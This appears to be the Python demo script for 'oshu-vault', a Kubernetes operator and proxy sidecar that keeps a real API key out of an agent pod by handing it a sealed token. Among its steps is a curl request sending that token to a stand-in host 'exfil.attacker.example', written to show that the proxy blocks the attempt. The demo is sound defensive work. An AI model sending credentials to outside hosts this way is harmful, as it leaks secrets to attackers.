"""The README's first command (`make demo`): the whole oshu-vault flow on this machine.

Starts a local control plane, installs the Helm chart, runs the operator as the chart's
ServiceAccount, applies manifests/examples (a Secret with the real key, a VaultSession, a
labelled Pod), shows the Pod the API server stored after injection, then runs the sidecar on
the session Secret the operator wrote and sends two requests through it with curl: one to the
allowed host (a local HTTPS stand-in for api.anthropic.com) that arrives with the real key,
one to a host the session does not allow, which gets nothing. Every connection stays on
127.0.0.1. Cleans up after itself; exits non-zero if any step does not behave as described.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from typing import Any, Iterator

from oshu_localkube import LocalCluster
from oshu_operator import names as n
from oshu_sidecar.pki import KeyPair
from oshu_sidecar.session import loads_session
from oshu_testkit.sessions import write_k8s_secret_dir
from oshu_testkit.sidecar_process import SidecarProcess
from oshu_testkit.upstreams import Upstream

from . import examples, install
from .paths import CHART_DIR, EXAMPLES_DIR, REPO_ROOT

RELEASE = "oshu-vault"
NAMESPACE = "oshu-vault"
ALLOWED_URL = "https://api.anthropic.com/echo/v1/messages"
DISALLOWED_URL = "https://exfil.attacker.example/collect"
STEPS = 7


class DemoFailure(RuntimeError):
    """A step did not show what the demo claims; the message says which and why."""


def _bold(text: str) -> str:
    return f"\033[1m{text}\033[0m" if sys.stdout.isatty() else text


class Narrator:
    def __init__(self) -> None:
        self.started = time.monotonic()
        self.step = 0

    def title(self, text: str) -> None:
        print(f"\n{_bold('oshu-vault demo')}: {text}", flush=True)

    def begin(self, text: str) -> float:
        self.step += 1
        print("\n" + _bold(f"[{self.step}/{STEPS}] {text}"), flush=True)
        return time.monotonic()

    def say(self, text: str, indent: int = 6) -> None:
        print(textwrap.indent(text, " " * indent), flush=True)

    def done(self, since: float, what: str = "done") -> None:
        self.say(f"-> {what} ({time.monotonic() - since:.1f}s)")


def _short(value: str, keep: int = 14) -> str:
    return value if len(value) <= keep + 1 else value[:keep] + "…"


def _check(condition: bool, message: str) -> None:
    if not condition:
        raise DemoFailure(message)


def _rel(path: Path) -> str:
    return str(path.relative_to(REPO_ROOT))


# -- the steps ----------------------------------------------------------------------------------
def show_pod(tell: Narrator, pod: dict[str, Any], real: str, sealed: str) -> None:
    spec = pod["spec"]
    sidecars = [c for c in spec.get("initContainers", []) if c["name"] == n.SIDECAR_CONTAINER]
    _check(len(sidecars) == 1, "the Pod was not injected with the sidecar")
    sidecar = sidecars[0]
    tell.say(f"initContainers[{n.SIDECAR_CONTAINER}]  (a native sidecar: restartPolicy {sidecar.get('restartPolicy')})")
    tell.say(f"image {sidecar['image']}, runs as uid {sidecar['securityContext'].get('runAsUser')}, "
             f"read-only root, no capabilities; startup probe GET :{n.SIDECAR_ADMIN_PORT}{n.SIDECAR_READY_PATH}", 8)
    tell.say("args: " + " ".join(sidecar.get("args", [])), 8)
    for mount in sidecar.get("volumeMounts", []):
        tell.say(f"mounts {mount['name']} at {mount['mountPath']}", 8)
    for container in spec["containers"]:
        tell.say(f"containers[{container['name']}]  (the agent; image {container['image']})")
        for var in container.get("env", []):
            value = var.get("value", "<from " + ",".join(var.get("valueFrom", {})) + ">")
            tell.say(f"{var['name']}={value}", 8)
        for mount in container.get("volumeMounts", []):
            tell.say(f"mounts {mount['name']} at {mount['mountPath']} (read-only: {mount.get('readOnly', False)})", 8)
    for volume in spec.get("volumes", []):
        source = volume.get("secret", {}).get("secretName") or ",".join(k for k in volume if k != "name")
        items = [i["key"] for i in volume.get("secret", {}).get("items", [])]
        tell.say(f"volume {volume['name']}: {source}" + (f" (only {', '.join(items)})" if items else ""))
    app_env = {v["name"]: v.get("value") for c in spec["containers"] for v in c.get("env", [])}
    _check(app_env.get("ANTHROPIC_API_KEY") == sealed, "the agent's ANTHROPIC_API_KEY is not the sealed token")
    _check(real not in json.dumps(pod), "the real key appears in the Pod object")
    tell.say(f"The agent sees ANTHROPIC_API_KEY={_short(sealed, 20)} and the proxy variables; the real key appears "
             "nowhere in the Pod object (checked).", 6)


def session_files(cluster: LocalCluster, namespace: str, secret_name: str, directory: Path) -> dict[str, bytes]:
    """The operator's session Secret, laid out the way kubelet mounts it into the sidecar."""
    secret = install.get_json(cluster, "secret", secret_name, namespace)
    files = {k: base64.b64decode(v) for k, v in secret["data"].items()}
    write_k8s_secret_dir(directory, files)
    return files


def curl(url: str, sealed: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["curl", "--silent", "--show-error", "--max-time", "15", "--write-out", "\n%{http_code} %{http_connect}",
         "-H", f"x-api-key: {sealed}", "-H", "content-type: application/json",
         "--data", '{"model": "claude", "messages": [{"role": "user", "content": "hi"}]}', url],
        env=env, capture_output=True, text=True, timeout=30)


@contextlib.contextmanager
def _workdir() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="oshu-demo-"))
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def run(tell: Narrator) -> None:
    tell.title("a real API key used by an agent pod that never holds it. Everything runs on 127.0.0.1.")
    if not shutil.which("curl"):
        raise DemoFailure("curl is needed for the client requests (apt-get install curl)")
    with _workdir() as work, contextlib.ExitStack() as stack:
        t = tell.begin("Local Kubernetes control plane: etcd, kube-apiserver, kube-controller-manager")
        tell.say("(pinned builds from hack/localkube-go; no kubelet, so pods are admitted and stored but never run)")
        cluster = stack.enter_context(LocalCluster(log=lambda m: tell.say(m, 8)))
        tell.done(t, f"API server at {cluster.server}")

        t = tell.begin(f"helm install {RELEASE} {_rel(CHART_DIR)} --namespace {NAMESPACE} --create-namespace")
        installation, helm_seconds = install.helm_install(cluster, RELEASE, NAMESPACE, create_namespace=True,
                                                          workdir=work / "install")
        installed = [f"{d['kind']}/{d['metadata']['name']}" for d in installation.docs]
        tell.say(textwrap.fill("installed: " + ", ".join(installed), 96, subsequent_indent="  ",
                               break_on_hyphens=False, break_long_words=False))
        tell.done(t, f"helm took {helm_seconds:.1f}s")

        t = tell.begin("The operator, run here as the chart's ServiceAccount")
        tell.say(f"with a token of system:serviceaccount:{installation.namespace}:{installation.service_account} "
                 "only, so the chart's RBAC is all it has;\nthe chart's Deployment arguments, but the webhook "
                 f"serves on 127.0.0.1 and the chart's webhook configuration\n({installation.webhook_config}) is "
                 "pointed there: without a kubelet its pod never runs.")
        operator = stack.enter_context(installation.dev_operator(["--revocation-grace=2s"]))
        installation.assert_webhook_is_local()
        tell.done(t, f"operator ready (metrics and health on 127.0.0.1:{operator.metrics_port})")

        t = tell.begin(f"kubectl apply -f {_rel(EXAMPLES_DIR)}/")
        docs = examples.load()
        real = examples.real_key(docs)
        session_name = docs["VaultSession"]["metadata"]["name"]
        ns = examples.NAMESPACE
        install.apply_docs(cluster, [docs["Namespace"], docs["Secret"], docs["VaultSession"]])
        session = install.session_ready(cluster, ns, session_name)
        sealed = session["status"]["tokens"]["ANTHROPIC_API_KEY"]
        tell.say(f"Secret {ns}/anthropic holds the real key ({_short(real)}, {len(real)} characters)")
        tell.say(f"VaultSession {ns}/{session_name}: Ready; sealed token for ANTHROPIC_API_KEY: {sealed}")
        tell.say(f"  the operator wrote Secret {ns}/{session['status']['secretName']} (session file, session CA, "
                 "CA bundle) for the sidecar")
        install.apply_docs(cluster, [docs["Pod"]])
        pod = install.get_json(cluster, "pod", docs["Pod"]["metadata"]["name"], ns)
        tell.done(t, f"Pod {ns}/{pod['metadata']['name']} admitted (label {n.LABEL_SESSION}={session_name})")

        t = tell.begin("The Pod as the API server stored it, after the webhook injected it")
        show_pod(tell, pod, real, sealed)
        tell.done(t)

        t = tell.begin("The sidecar, run here on that session Secret, and a client request to the allowed host")
        mount = work / "session-mount"
        files = session_files(cluster, ns, session["status"]["secretName"], mount)
        bundle = work / "ca-bundle.pem"  # what the pod sees at the CA_BUNDLE path
        bundle.write_bytes(files[n.KEY_CA_BUNDLE])
        upstream = stack.enter_context(Upstream(names=("api.anthropic.com",), directory=work / "upstream"))
        sidecar = stack.enter_context(SidecarProcess(
            loads_session(files[n.KEY_SESSION_FILE]), upstream=upstream, directory=work / "sidecar",
            session_path=mount / n.KEY_SESSION_FILE,
            ca=KeyPair(files[n.KEY_CA_CERT], files[n.KEY_CA_KEY])))
        tell.say(f"stand-in for api.anthropic.com: HTTPS on 127.0.0.1:{upstream.port} with its own test CA, which "
                 "the sidecar trusts\n(--upstream-ca-file) and reaches with --connect-to; the client trusts only "
                 "the pod's CA bundle")
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(work),
               "HTTPS_PROXY": sidecar.proxy_url, "HTTP_PROXY": sidecar.proxy_url,
               "CURL_CA_BUNDLE": str(bundle)}
        tell.say(f"$ HTTPS_PROXY={sidecar.proxy_url} CURL_CA_BUNDLE=<the pod's {n.KEY_CA_BUNDLE}> \\\n"
                 f"    curl -H 'x-api-key: {_short(sealed, 20)}' --data '{{...}}' {ALLOWED_URL}")
        before = len(upstream.requests)
        result = curl(ALLOWED_URL, sealed, env)
        body, _, codes = result.stdout.rpartition("\n")
        _check(result.returncode == 0 and codes.split()[0] == "200",
               f"the allowed request failed: curl exit {result.returncode}, {result.stderr.strip()} {codes}")
        _check(len(upstream.requests) == before + 1, "the stand-in API did not receive the request")
        received = upstream.last.header("x-api-key")
        _check(received == real, "the stand-in API did not receive the real key")
        echoed = json.loads(body)
        echoed_key = next(v for k, v in echoed["headers"] if k.lower() == "x-api-key")
        tell.say(f"-> HTTP 200. The stand-in received x-api-key: {_short(received)} = the real key from the Secret.")
        tell.say(f"   It echoed its request headers back; the client got x-api-key: {_short(echoed_key, 20)} "
                 "(the proxy scrubs the real key from responses).")
        _check(real not in result.stdout, "the real key reached the client in the response")
        tell.done(t)

        t = tell.begin("The same sealed token, sent to a host the session does not allow")
        tell.say(f"$ curl -H 'x-api-key: {_short(sealed, 20)}' --data '{{...}}' {DISALLOWED_URL}")
        before = len(upstream.requests)
        result = curl(DISALLOWED_URL, sealed, env)
        connect_code = result.stdout.rsplit("\n", 1)[-1].split()[-1] if result.stdout else "?"
        _check(result.returncode != 0, "the request to a host outside the session succeeded")
        _check(len(upstream.requests) == before, "something reached an upstream")
        refusal = sidecar.wait_for_log(lambda r: "exfil.attacker.example" in json.dumps(r), timeout=10)
        tell.say(f"-> refused: the proxy answered the CONNECT with {connect_code} (curl: "
                 f"{result.stderr.strip().removeprefix('curl: ')}); no connection was made, nothing was sent.")
        tell.say(f"   sidecar log: {json.dumps({k: v for k, v in refusal.items() if k != 'ts'})}")
        logs = sidecar.log_text() + operator.log_text()
        _check(real not in logs, "the real key appears in the sidecar or operator log")
        tell.say("Neither the sidecar's nor the operator's log contains the real key (checked).")
        tell.done(t)

        print("\nCleaning up: stopping the sidecar, the stand-in API, the operator and the control plane "
              "(its state directory is removed).", flush=True)
    summary = f"""
{_bold("What this showed")} ({time.monotonic() - tell.started:.0f}s in all):
  - One `helm install` gave the cluster the VaultSession CRD, the operator's Deployment, its
    least-privilege RBAC and the injection webhook; the operator ran with that RBAC alone.
  - A VaultSession turned the Secret's real key into a sealed token; a pod opted in with one
    label and got the proxy sidecar, the sealed token, proxy and CA variables. The real key is in
    neither the pod spec nor anything the agent container mounts.
  - Through the sidecar, an unmodified client (curl with HTTPS_PROXY and the CA bundle) sent the
    sealed token and api.anthropic.com received the real key; the key sent anywhere else: refused.
"""
    print(summary, flush=True)


def main() -> int:
    tell = Narrator()
    try:
        run(tell)
    except KeyboardInterrupt:
        print("\ndemo interrupted; cleaned up", file=sys.stderr)
        return 130
    except Exception as e:  # noqa: BLE001 - the demo's contract: a clear message and exit 1
        print(f"\nDEMO FAILED at step {tell.step}: {type(e).__name__}: {e}", file=sys.stderr)
        return 1
    return 0
